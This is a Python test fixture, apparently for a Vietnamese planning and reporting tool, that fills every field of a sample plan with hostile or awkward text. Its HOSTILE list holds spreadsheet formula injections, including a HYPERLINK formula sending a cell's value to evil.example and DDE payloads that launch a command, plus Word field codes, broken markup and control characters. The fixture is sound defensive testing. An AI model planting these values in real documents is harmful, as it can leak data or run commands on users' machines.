"""Texts that try to be more than text, and plans made of them."""

from __future__ import annotations

import unicodedata
from dataclasses import replace
from datetime import date

from lib.plan import Area, Decision, Indicator, Milestone, Origin, Plan, PlanInfo, Task

HOSTILE = (
    '=HYPERLINK("http://evil.example/?q="&A1,"bấm")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "http://evil.example/tep.docx và mailto:ai@evil.example",
    "{ HYPERLINK http://evil.example } { INCLUDETEXT C:\\\\x }",
    "<w:p>&amp;</w:t> <b>đậm</b> ]]> &#x41;",
    "Trước\x00\x01\x07\x0b\x1fsau\x7f\ufffe",
    "Văn bản rất dài " * 313,
    "x" * 5_000,
    "\u202eđảo ngược\u202c và \u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "👩‍👩‍👧‍👦 🇻🇳 ✓ ● việc có hình",
    "_x0041_ _x000D_ ﷽ ẩ̃́",
)
"""Formulas, links, fields, markup, control characters, long texts, right-to-left, emoji, escapes."""


def letters(text: str) -> str:
    """The text's letters, digits, marks and signs in order: no spaces, no invisible or control characters."""
    return "".join(
        char for char in text if unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Cn", "Zs", "Zl", "Zp")
    )


def plan_titled(text: str) -> Plan:
    """A plan of 2020 whose one task has this title and nothing else is strange."""
    plain = plan_with("Văn phòng – Thống kê")
    return replace(plain, rows=(replace(plain.rows[0], title=text),))


def plan_with(text: str) -> Plan:
    """A plan of 2020 whose area, task, unit, evidence, obstacle, indicator and decision are this text."""
    task = Task(
        key="1.1",
        code="1.1",
        title=text,
        area="1",
        lead=text,
        deadline_text=text,
        internal_due=date(2020, 3, 31),
        milestones=(Milestone(text, date(2020, 3, 31)),),
        obstacle=text,
        evidence=text,
        product=text,
        allocated=1_000_000,
        declared_spent=250_000,
        updated=date(2020, 5, 1),
        origin=Origin("Nhiệm vụ", 5),
    )
    return Plan(
        info=PlanInfo(unit=text, superior=text, year=2020, number=text, report_date=date(2020, 6, 30)),
        areas=(Area("1", text, 1_000_000),),
        rows=(task,),
        indicators=(Indicator("CT01", text, area="1", unit=text, target=5.0),),
        decisions=(Decision(text, meeting=date(2020, 5, 5), unit=text, due=date(2020, 5, 31), task="1.1"),),
    )
